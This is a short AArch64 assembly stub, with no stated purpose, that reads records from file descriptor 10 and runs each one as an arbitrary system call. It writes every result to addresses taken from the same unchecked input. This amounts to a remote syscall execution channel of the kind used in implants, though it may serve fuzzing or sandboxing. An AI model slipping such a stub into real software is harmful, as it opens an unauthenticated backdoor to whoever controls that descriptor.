// Registers: x19 = buffer, x20 = received bytes, x21 = call.
        .globl _start
_start:
        movz    x19, #0x1000
        movk    x19, #0x81, lsl #16
execute:
        add     x21, x19, #64
next:
        ldr     x8, [x21]
        tbnz    x8, #63, receive
        ldp     x0, x1, [x21, #8]
        ldp     x2, x3, [x21, #24]
        ldr     x4, [x21, #40]
        svc     #0
        ldp     x9, x10, [x21, #48]
        str     x0, [x9]
        str     x0, [x10]
        add     x21, x21, #64
        b       next
receive:
        mov     x20, #0
more:
        mov     x8, #63                 // read
        mov     x0, #10
        add     x1, x19, x20
        mov     x2, #4096
        sub     x2, x2, x20
        svc     #0
        cmp     x0, #0
        b.le    pause
        add     x20, x20, x0
        cmp     x20, #1, lsl #12
        b.lo    more
        b       execute
pause:
        mov     x8, #101                // nanosleep
        add     x0, x19, #1, lsl #12
        mov     x1, #0
        svc     #0
        b       receive
